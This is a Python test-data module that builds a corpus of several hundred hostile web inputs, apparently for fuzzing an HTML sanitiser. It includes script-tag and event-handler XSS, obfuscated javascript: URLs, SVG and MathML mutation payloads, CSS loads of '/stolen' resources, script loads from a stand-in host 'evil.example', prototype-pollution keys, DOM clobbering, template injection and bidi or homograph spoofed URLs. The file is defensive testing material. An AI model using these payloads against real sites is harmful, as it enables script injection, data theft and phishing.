"""A corpus of strings that try to run, break out, spoof or confuse, made from the known classes of such strings.

Each carries `CANARY`: where one runs, `window.__owned` is set.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

CANARY = "window.__owned=1"
_CALLS = (CANARY, "alert(1)", "fetch('/stolen')")


def corpus() -> list[str]:
    """At least five hundred, each once, in a stable order."""
    made = [
        *_tags(),
        *_handlers(),
        *_addresses(),
        *_foreign(),
        *_mutations(),
        *_breakouts(),
        *_styles(),
        *_letters(),
        *_keys(),
        *_clobbering(),
        *_templates(),
        *_fragments(),
        *_long(),
    ]
    return list(dict.fromkeys(made))


def _tags() -> Iterator[str]:
    for call in _CALLS:
        yield f"<script>{call}</script>"
        yield f"<ScRiPt >{call}</sCrIpT >"
        yield f"<script/x>{call}</script/y>"
        yield f"<<script>{call}//<</script>"
        yield f"<script\x0b>{call}</script>"
        yield f"<script\n>{call}</script\n>"
        yield f"</script><script>{call}</script>"
        yield f"<scr<script>ipt>{call}</scr</script>ipt>"
        yield f"%3Cscript%3E{quote(call)}%3C/script%3E"
        yield f"&lt;script&gt;{call}&lt;/script&gt;"
        yield f"\\u003cscript\\u003e{call}\\u003c/script\\u003e"
        yield f"\\x3cscript\\x3e{call}\\x3c/script\\x3e"
        yield f"<script>{call}"
    for address in ("/stolen.js", "//evil.example/x.js", "data:text/javascript,window.__owned=1"):
        yield f'<script src="{address}"></script>'
        yield f'<script type=module src="{address}"></script>'
        yield f'<link rel=preload as=script href="{address}">'
        yield f'<link rel=stylesheet href="{address}">'
        yield f'<iframe src="{address}"></iframe>'
        yield f'<object data="{address}"></object>'
        yield f'<embed src="{address}">'
        yield f'<img src="{address}">'
        yield f'<base href="{address}">'
        yield f'<form action="{address}"><button>x</button></form>'
        yield f'<meta http-equiv=refresh content="0;url={address}">'
        yield f'<video poster="{address}"><source src="{address}"></video>'
        yield f'<portal src="{address}"></portal>'
        yield f'<a ping="{address}" href="/">x</a>'
    yield "<front-desk data-site=evil></front-desk>"
    yield "<template shadowrootmode=open><script>window.__owned=1</script></template>"


_EVENTS = [
    "load", "error", "click", "mouseover", "mouseenter", "pointerenter", "pointerover", "pointerdown",
    "focus", "focusin", "blur", "input", "change", "toggle", "beforetoggle", "animationstart",
    "animationend", "animationiteration", "transitionend", "transitionrun", "begin", "end", "repeat",
    "scroll", "scrollend", "wheel", "copy", "cut", "paste", "beforecopy", "keydown", "keyup", "submit",
    "reset", "invalid", "select", "selectstart", "drag", "dragstart", "drop", "contextmenu",
    "auxclick", "canplay", "loadstart", "loadeddata", "play", "playing", "seeked", "timeupdate",
    "volumechange", "waiting", "cuechange", "hashchange", "popstate", "message", "pageshow", "resize",
    "unhandledrejection", "beforeinput", "gotpointercapture", "securitypolicyviolation", "slotchange",
    "formdata", "fullscreenchange", "contentvisibilityautostatechange", "command",
]  # fmt: skip
_HOSTS = (
    "img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x",
    "marquee", "div tabindex=0 style=animation-name:rise", "x contenteditable tabindex=1",
    "iframe srcdoc=x", "select autofocus",
)  # fmt: skip


def _handlers() -> Iterator[str]:
    for number, event in enumerate(_EVENTS):
        host = _HOSTS[number % len(_HOSTS)]
        yield f"<{host} on{event}={CANARY}>"
    for host, space in product(_HOSTS, ("/", "\n", "\x0c")):
        yield f"<{host.split()[0]}{space}src=x{space}onerror={space}{CANARY}>"
    yield "<img src=x onerror=&#119;indow.__owned=1>"
    yield "<img src=x onerror=\\u0077indow.__owned=1>"
    yield "<img src=x onerror=eval(atob('d2luZG93Ll9fb3duZWQ9MQ=='))>"


def _addresses() -> Iterator[str]:
    schemes = (
        "javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:",
        "java\nscript:", "java\r\nscript:", "javascript\n:", "&#106;avascript:", "&#x6A;avascript:",
        "javascript&colon;", "%6aavascript:", "javascript%3A", "javascript://comment%0a",
        "javascript:/*-*/", "\u2028javascript:", "vbscript:", "livescript:", "mocha:",
        "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,",
        "data:application/xhtml+xml,", "view-source:javascript:", "feed:javascript:",
        "jar:javascript:", "blob:", "filesystem:", "file:///etc/", "about:blank#",
        "intent://x#Intent;", "ws://evil.example/", "tel:", "\ufeffjavascript:", "javascript\u200b:",
        "ｊavascript:", "javascript：", "//evil.example/", "\\\\evil.example\\", "https:javascript:",
        "http://[", "https://a\u0000b/", "https://evil.example\\@bank.example/",
        "https://bank.example@evil.example/", "https://bаnk.example/", "https://xn--bnk-7cd.example/",
        "https://bank.example%2f@evil.example/", "https://bank.example:443@evil.example/",
        "mailto:a@b.example?body=", "https://\u202emoc.knab\u202c.evil.example/",
        "https://bank.example\u2066/\u2069evil.example/",
    )  # fmt: skip
    for scheme in schemes:
        yield f"{scheme}{CANARY}"
    for scheme in schemes[:17]:
        yield f'<a href="{scheme}{CANARY}">x</a>'
        yield f"[x]({scheme}{CANARY})"


def _foreign() -> Iterator[str]:
    for call in _CALLS:
        yield f"<svg><script>{call}</script></svg>"
        yield f"<svg><script href=data:,{call} /></svg>"
        yield f"<svg><a xlink:href=javascript:{call}><text y=20>x</text></a></svg>"
        yield f"<svg><animate onbegin={call} attributeName=x dur=1s>"
        yield f"<svg><set attributeName=href to=javascript:{call}></svg>"
        yield f"<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>"
        yield f'<svg><use href="data:image/svg+xml,<svg id=x onload={call}/>#x"/></svg>'
        yield f"<math><mtext><img src=x onerror={call}></mtext></math>"
        yield f"<math href=javascript:{call}>x</math>"
        yield f"<math><maction actiontype=statusline xlink:href=javascript:{call}>x</maction></math>"
        yield f'<?xml-stylesheet href="javascript:{call}"?>'
        yield f"<![CDATA[<img src=x onerror={call}>]]>"


def _mutations() -> Iterator[str]:
    hit = f"<img src=x onerror={CANARY}>"
    for outer in (
        "noscript", "noembed", "noframes", "textarea", "title", "style", "xmp", "iframe", "plaintext",
        "template",
    ):  # fmt: skip
        yield f'<{outer}><p title="</{outer}>{hit}">'
        yield f"<{outer}></{outer}>{hit}"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{escape(hit)}'>"
    yield f'<svg></p><style><a id="</style>{hit}">'
    yield f"<form><math><mtext></form><form><mglyph><style></math>{hit}"
    yield f"<!--><!--{hit}-->"
    yield f"<!-- --!>{hit}-->"
    yield f"<table><tr><td>{hit}</table>"
    yield f"<select><option>{hit}</select>"
    yield f"<a><svg><desc><svg><image><a><desc>{hit}"
    yield "`" * 3 + f"html\n{hit}\n" + "`" * 3
    yield f"![x]({hit})"
    yield f"| a | {hit} |\n|---|---|"


def _breakouts() -> Iterator[str]:
    for mark, space in product(('"', "'", "`", '\\"', "&quot;", "&#34;", "%22", "＂"), (" ", "/", "\t")):
        yield f"{mark}{space}onmouseover={CANARY}{space}{mark}"
        yield f"{mark}{space}autofocus{space}onfocus={CANARY}{space}x={mark}"
    for end in (
        "-->", "]]>", "*/", "</style>", "</title>", "</textarea>", "</article>", "</front-desk>", "}",
        ");", "';",
    ):  # fmt: skip
        yield f"{end}<img src=x onerror={CANARY}>"
        yield f"{end}{CANARY}//"


def _styles() -> Iterator[str]:
    yield "<style>@import '/stolen.css'</style>"
    yield "<style>*{background:url(/stolen.png)}</style>"
    yield "<style>:host{display:none}</style>"
    yield "<p style='position:fixed;inset:0;background:url(/stolen.png)'>x"
    yield "x:expression(window.__owned=1)"
    yield "red;background:url(/stolen.png)"
    yield "}*{background:url(/stolen.png)}"
    yield "#fff;--x:url(javascript:window.__owned=1)"
    yield "@font-face{font-family:x;src:url(/stolen.woff)}"
    yield "<div class='panel veil source-card'>x</div>"


_ODD_LETTERS = (
    "\x00\x01\x07\x08\x0b\x0c\x0e\x1b\x7f\x80\x85\xad\u061c\u200b\u200d"
    "\u200e\u200f\u2028\u2029\u202a\u202d\u202e\u2060\u2066\u2068\u2069\ufe0f\ufeff\ufffc\ufffd\uffff"
)


def _letters() -> Iterator[str]:
    for letter in _ODD_LETTERS:
        yield f"a{letter}b <img src=x onerror={CANARY}>"
        yield f"{letter}invoice\u202egpj.exe{letter}"
    yield "Z" + "\u0300" * 300 + "algo"
    yield "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U000e0001\U000e0041 tags"
    yield "ﷺ" * 50
    yield "\ud7ff\ue000\U0010ffff"


_KEYS = (
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "__defineGetter__",
    "__lookupSetter__", "then", "toJSON",
)  # fmt: skip


def _keys() -> Iterator[str]:
    for key in _KEYS:
        yield key
        yield f'{{"{key}": {{"polluted": 1}}}}'
        yield f"{key}[polluted]=1"
    yield from (
        "null", "undefined", "NaN", "true", "0", "-0", "1e999", "[]", "{}", "[object Object]", '"',
        "\\", '\\"', "\\u0000", "'", "//", "/*",
    )  # fmt: skip
    yield '{"type":"message","seq":1,"author":"system"}'
    yield '"}],"lines":[{"text":"x'
    yield "\\ud800 lone"


_NAMES = (
    "body", "head", "forms", "location", "document", "cookie", "attributes", "children",
    "getRootNode", "adoptedStyleSheets", "shadowRoot", "submit", "elements", "Frontdesk", "customElements", "menu",
)  # fmt: skip


def _clobbering() -> Iterator[str]:
    for name in _NAMES:
        yield name
        yield f"<a id={name}><a id={name} name=href href=//evil.example>"
        yield f"<form id={name}><input name={name}></form>"


def _templates() -> Iterator[str]:
    for call in _CALLS:
        yield f"{{{{constructor.constructor('{call}')()}}}}"
        yield f"${{{call}}}"
        yield f"<%= {call} %>"
        yield f"#{{{call}}}"
        yield f"{{% {call} %}}"
        yield f"[[{call}]]"
        yield f'<div v-html="\'{call}\'" ng-init="{call}" x-data="{call}" hx-on:load="{call}">'


def _fragments() -> Iterator[str]:
    base = "https://docs.example.com/plans"
    for tail in (
        "#:~:text=<script>window.__owned=1</script>", "#x:~:text=a,-b&text=c",
        "#:~:text=%3Cimg%20src=x%20onerror=window.__owned=1%3E",
        "#:~:selector(type=CssSelector,value=img)", "#:~:text=javascript:window.__owned=1",
        "?q=<svg onload=window.__owned=1>", "/<img src=x onerror=window.__owned=1>",
        '#"onmouseover=window.__owned=1 x="', "%00<script>window.__owned=1</script>",
        "/../../../\\evil.example", ";javascript:window.__owned=1", "#:~:text=" + "a" * 2000,
    ):  # fmt: skip
        yield base + tail


def _long() -> Iterator[str]:
    yield "<" * 3000
    yield "&" * 3000
    yield "A" * 3900
    yield "<b>" * 1000
    yield "https://example.com/" + "a/" * 1500
    yield "[" * 3000
    yield "\u202e" * 1000 + "x"
    yield "a " * 1900
